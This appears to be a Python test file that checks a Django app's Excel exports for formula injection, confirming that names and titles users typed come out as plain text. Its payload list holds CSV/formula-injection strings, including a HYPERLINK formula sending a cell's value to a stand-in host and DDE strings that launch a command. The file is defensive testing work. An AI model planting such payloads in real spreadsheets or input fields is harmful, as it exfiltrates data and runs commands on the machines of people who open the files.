"""F07: what people typed stays text in every file that a spreadsheet opens: no cell is a formula,
and what comes out is what went in."""

import inspect
import io
import zipfile

import pytest
from django.urls import reverse
from openpyxl import load_workbook

import hos.export
from deals.models import Deal, Membership, Organisation
from hos.accounts.models import User
from tests.access.routes import routes
from tests.builders import make_accord, make_draft
from tests.cast import gather
from tests.kept_rows import KeptRows
from tests.sizes import size

FORMULA = [
    "=1+1", '=HYPERLINK("https://kwaad.example?x="&A1,"klik")', "=cmd|'/c calc'!A1", "@SUM(1+1)",
    '=IMPORTXML("https://kwaad.example","//a")', "+1+1", "-1+1", "=", "@", "+", "-", "=A1", "=1;2",
    "-2+3+cmd|' /C calc'!A0", '=DDE("cmd";"/C calc";"x")', "=#REF!", "+31 20 000 00 00", "-5", "+5",
    '="a"&"b"', "{=1+1}", "=RAND()", '=WEBSERVICE("x")',
]  # fmt: skip
BEFORE = ["", "\t", "\r", "\n", "\r\n", " ", "\u00a0", "'", '"', "\ufeff", ";", ",", "\u200b"]
OTHER = ["_x003D_1+1", "_x000D_=1", "#N/A", "#REF!", "1e5", "00123", "TRUE", "1-2-2026", "12:30",
         "50%", "\u20ac 1.000,50", "\uff1d1+1", "a\r\nb", "a\tb", "<f>1+1</f>", "&#61;1+1", "]]>",
         "x" * 150]  # fmt: skip
ALL = [before + text for before in BEFORE for text in FORMULA] + OTHER
TYPED = list(dict.fromkeys([*ALL[:: size(6, 1)], *FORMULA, *OTHER]))
EXPORTS = {"deals:export": "programma", "deals:organisations_export": "programma",
           "deals:rights_export": "beheer"}  # fmt: skip


def make_typed():
    """Everything a person can give a name to has one of these names."""
    cast = gather()
    accord = make_accord(cast)
    Organisation.objects.bulk_create(
        Organisation(name=text, short=text[:20], region=text[:60], kind="company") for text in TYPED
    )
    people = User.objects.bulk_create(
        User(email=f"typer{number}@demo.example", name=text[:120])
        for number, text in enumerate(TYPED)
    )
    Membership.objects.bulk_create(
        Membership(user=person, organisation=cast.orgs["fme"], role="reader") for person in people
    )
    for text in TYPED:
        deal = make_draft(cast, accord)
        Deal.objects.filter(pk=deal.pk).update(title=text[:150])
    return cast


@pytest.fixture(scope="session")
def kept_typed(tmp_path_factory):
    return KeptRows(tmp_path_factory.mktemp("typed"), make_typed)


@pytest.fixture
def cast(db, kept_typed):
    return kept_typed.load()


def sheet_of(client, cast, route):
    client.force_login(cast.people[EXPORTS[route]])
    content = client.get(reverse(route)).content
    with zipfile.ZipFile(io.BytesIO(content)) as parts:
        raw = b"".join(parts.read(name) for name in parts.namelist() if "worksheets" in name)
    return [cell for row in load_workbook(io.BytesIO(content)).active for cell in row], raw


def formulas(cells, raw):
    """Cells that a spreadsheet reckons with, and those it would when somebody edits them."""
    live = [cell.value for cell in cells if cell.data_type == "f"]
    texts = [cell for cell in cells if isinstance(cell.value, str) and cell.row > 1]
    return (
        live + [cell.value for cell in texts if not cell.quotePrefix] + [b"<f"] * raw.count(b"<f")
    )


def not_equal(cells):
    """What was typed and does not stand in a cell as it was typed."""
    found = {cell.value for cell in cells}
    return [text for text in TYPED if text[:120] not in found and text not in found]


@pytest.mark.parametrize("route", EXPORTS)
def test_f07_what_was_typed_is_text(client, cast, route):
    cells, raw = sheet_of(client, cast, route)
    live, lost = formulas(cells, raw), not_equal(cells)
    print(f"F07 {route} values {len(TYPED)} cells {len(cells)} formulas {len(live)} "
          f"not equal {len(lost)}")  # fmt: skip
    assert live == []
    assert lost == []


def test_f07_the_control_as_a_sheet_is_usually_written_has_formulas(client, cast, monkeypatch):
    monkeypatch.setattr(
        hos.export, "_write", lambda sheet, row, column, value: sheet.cell(row, column, str(value))
    )
    cells, raw = sheet_of(client, cast, "deals:organisations_export")
    live = [cell for cell in cells if cell.data_type == "f"]
    print(f"F07 control, written as usual: formulas {len(live)}")
    assert live
    assert raw.count(b"<f")


def test_f07_every_export_is_known_here():
    sources = {route.name: _source(route.view) for route in routes()}
    found = {name for name, source in sources.items() if "as_xlsx(" in source}
    others = {name for name, source in sources.items() if "csv" in source}
    print(f"F07 exports {len(found)} in another way {len(others)}")
    assert (found, others) == (set(EXPORTS), set())


def _source(view):
    view = inspect.unwrap(view)
    module = inspect.getmodule(view)
    is_own = module.__name__.split(".")[0] in ("hos", "deals", "pilots", "reporting")
    return inspect.getsource(view) if is_own else ""
